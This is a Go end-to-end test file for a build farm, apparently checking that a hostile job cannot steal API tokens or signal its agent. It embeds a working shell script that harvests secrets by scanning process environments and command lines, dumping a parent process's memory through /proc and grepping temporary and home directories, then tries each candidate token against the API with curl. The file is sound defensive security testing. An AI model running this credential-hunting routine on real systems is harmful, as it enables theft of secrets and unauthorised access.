package e2e_test

import (
	"bufio"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/buildfarm/buildfarm/shared/adapter/apiv1"
	"github.com/buildfarm/buildfarm/shared/adapter/client"
	"github.com/buildfarm/buildfarm/shared/adapter/provision"
	"github.com/buildfarm/buildfarm/shared/adapter/topology"
	"github.com/buildfarm/buildfarm/shared/farm"
	"github.com/buildfarm/buildfarm/shared/testkit/emulatortest"
)

// huntScript is a hostile job looking for the farm's tokens the way the
// issue's did: its own environment, the environment and command line of
// every process it can see, its parent's memory, files under /tmp, the
// agent's work dir and home. It tries what it finds against the API with
// curl (when there is one), tries to signal the agent and its parent, and
// prints every candidate for the test to try too.
const huntScript = `
re='bf[a-z]*_[A-Za-z0-9_]{16,}'
found="$TMPDIR/found"
: > "$found"
scan() { grep -aoE "$re" 2>/dev/null >> "$found"; true; }
env | scan
for p in /proc/[0-9]*; do
	tr '\0' '\n' < "$p/environ" 2>/dev/null | scan
	tr '\0' '\n' < "$p/cmdline" 2>/dev/null | scan
done
grep -E '^[0-9a-f]+-[0-9a-f]+ r' "/proc/$PPID/maps" 2>/dev/null | while read -r range rest; do
	s=${range%-*}; e=${range#*-}
	case $s in ffffffff*) continue ;; esac
	dd if="/proc/$PPID/mem" bs=1M iflag=skip_bytes,count_bytes skip=$((0x$s)) count=$((0x$e - 0x$s)) 2>/dev/null | scan
done
for d in /tmp "$AGENT_WORK" "$AGENT_HOME" "$(dirname "$FARM_WORK_DIR")"; do
	find "$d" -xdev -type f -size -4M -readable -print0 2>/dev/null | head -z -n 20000 | xargs -0 -r grep -aohE "$re" 2>/dev/null >> "$found"
done
echo "visible processes: $(ls -d /proc/[0-9]* | wc -l)"
kill -0 "$AGENT_PID" 2>/dev/null && echo "SIGNALLED the agent"
kill -0 "$PPID" 2>/dev/null && echo "SIGNALLED the parent: $(tr '\0' ' ' < /proc/$PPID/cmdline)"
sort -u "$found" | head -n 500 > "$found.u"
while read -r c; do
	echo "CANDIDATE $c"
	if command -v curl >/dev/null; then
		echo "TRIED $(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $c" "$API/v1/queue") $c"
	fi
done < "$found.u"
echo "hunt over: $(wc -l < "$found.u") candidates"
`

// huntReport is what the test makes of a hunt's log.
type huntReport struct {
	log        string
	candidates []string
	working    []string // candidates the API accepted
	signalled  bool
}

// runHunt submits the hunting job with a planted submitter token in its
// own environment (the control: the hunt must find that one, and it must
// work), waits for it and tries every candidate against the API.
func runHunt(t *testing.T, admin *client.Client, apiURL string, env map[string]string) huntReport {
	t.Helper()
	ctx := context.Background()
	planted, err := admin.CreateToken(ctx, apiv1.TokenRequest{Role: string(farm.RoleSubmitter), Name: "planted in the hunt"})
	if err != nil {
		t.Fatal(err)
	}
	env["PLANTED"] = planted.Token
	env["API"] = apiURL
	payload, _ := json.Marshal(farm.ScriptArgs{Script: huntScript, Env: env})
	timeout := 300
	job, _, err := admin.SubmitJob(ctx, apiv1.SubmitJobRequest{Type: farm.TypeScript, Payload: payload, TimeoutSeconds: &timeout}, "")
	if err != nil {
		t.Fatal(err)
	}
	var final *farm.Job
	eventually(t, 4*time.Minute, "the hunt to end", func() bool {
		final, err = admin.GetJob(ctx, job.ID)
		return err == nil && final.Status.Terminal()
	})
	log, err := admin.JobLog(ctx, job.ID)
	if err != nil {
		t.Fatal(err)
	}
	if final.Status != farm.StatusSucceeded || !strings.Contains(log, "hunt over") {
		t.Fatalf("the hunt did not run: %s %q\n%s", final.Status, final.Error, log)
	}
	rep := huntReport{log: log, signalled: strings.Contains(log, "SIGNALLED")}
	sc := bufio.NewScanner(strings.NewReader(log))
	for sc.Scan() {
		if c, ok := strings.CutPrefix(sc.Text(), "CANDIDATE "); ok && !slices.Contains(rep.candidates, c) {
			rep.candidates = append(rep.candidates, c)
		}
	}
	for _, c := range rep.candidates {
		try, err := client.New(apiURL, c)
		if err != nil {
			t.Fatal(err)
		}
		_, err = try.Queue(ctx)
		switch {
		case err == nil:
			rep.working = append(rep.working, c)
		case client.StatusOf(err) != http.StatusUnauthorized:
			t.Errorf("candidate %.12s...: %v, want 401", c, err)
		}
		try.HTTPClient().CloseIdleConnections()
	}
	if !slices.Contains(rep.working, planted.Token) {
		t.Fatalf("the hunt missed the token planted in its own environment: it is not a hunt\n%s", log)
	}
	rep.working = slices.DeleteFunc(rep.working, func(c string) bool { return c == planted.Token })
	t.Logf("the hunt tried %d candidates (the planted one among them)", len(rep.candidates))
	return rep
}

func (r huntReport) check(t *testing.T) {
	t.Helper()
	if len(r.working) > 0 || r.signalled {
		var shown []string
		for _, c := range r.working {
			shown = append(shown, c[:min(len(c), 16)]+"...")
		}
		t.Fatalf("a hostile job found %d working tokens %v (signalled the agent or its parent: %v); its log:\n%s", len(r.working), shown, r.signalled, r.log)
	}
}

// A hostile job on a real farm-builder process (running as root, as in CI
// and on EC2) finds no token that works, and cannot signal its agent.
func TestHostileJobOnABuilderFindsNoToken(t *testing.T) {
	t.Parallel()
	f := startFarm(t)
	b := f.startBuilder(t, "hunted", 1, "default")
	home, _ := os.UserHomeDir()
	rep := runHunt(t, f.admin, f.URL, map[string]string{
		"AGENT_PID": strconv.Itoa(b.cmd.Process.Pid), "AGENT_WORK": b.workDir, "AGENT_HOME": home,
	})
	rep.check(t)
	if b.cmd.ProcessState != nil || syscall.Kill(b.cmd.Process.Pid, 0) != nil {
		t.Fatal("the agent is gone")
	}
}

// The issue's own case: the local runtime (scripts/up's farm-local, as
// root) with one builder of its own, its admin token in its environment and
// memory and its builders' tokens in memory. A hostile job finds none.
func TestHostileJobOnTheLocalRuntimeFindsNoToken(t *testing.T) {
	t.Parallel()
	emu := emulatortest.Emulator(t)
	prefix := "t" + strings.ToLower(farm.NewSecret(4))
	top, err := topology.New(prefix, topology.DefaultPools)
	if err != nil {
		t.Fatal(err)
	}
	awsCfg := emulatortest.Config(t)
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		provision.Destroy(ctx, awsCfg, top)
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	adminToken := "bf_admin_" + farm.NewSecret(20)
	cmd := exec.Command(localBin)
	cmd.Env = append(os.Environ(), emu.Env()...)
	cmd.Env = append(cmd.Env, "FARM_ADDR="+addr, "FARM_BUILDERS=1", "FARM_ADMIN_TOKEN="+adminToken,
		"FARM_PREFIX="+prefix, "FARM_LOG_LEVEL=warn")
	var out syncBuffer
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waited := make(chan struct{})
	go func() { cmd.Wait(); close(waited) }()
	t.Cleanup(func() {
		syscall.Kill(cmd.Process.Pid, syscall.SIGTERM)
		select {
		case <-waited:
		case <-time.After(30 * time.Second):
			syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			<-waited
		}
		if t.Failed() {
			t.Logf("--- farm-local output ---\n%s", out.String())
		}
	})
	url := "http://" + addr
	admin, err := client.New(url, adminToken)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(admin.HTTPClient().CloseIdleConnections)
	eventually(t, 2*time.Minute, "farm-local to serve with its builder", func() bool {
		bs, err := admin.ListBuilders(context.Background())
		return err == nil && len(bs) == 1
	})
	home, _ := os.UserHomeDir()
	rep := runHunt(t, admin, url, map[string]string{
		"AGENT_PID": strconv.Itoa(cmd.Process.Pid), "AGENT_WORK": os.TempDir(), "AGENT_HOME": home,
	})
	if slices.Contains(rep.candidates, adminToken) {
		t.Errorf("the hunt saw the admin token")
	}
	rep.check(t)
	select {
	case <-waited:
		t.Fatalf("farm-local is gone:\n%s", out.String())
	default:
	}
}
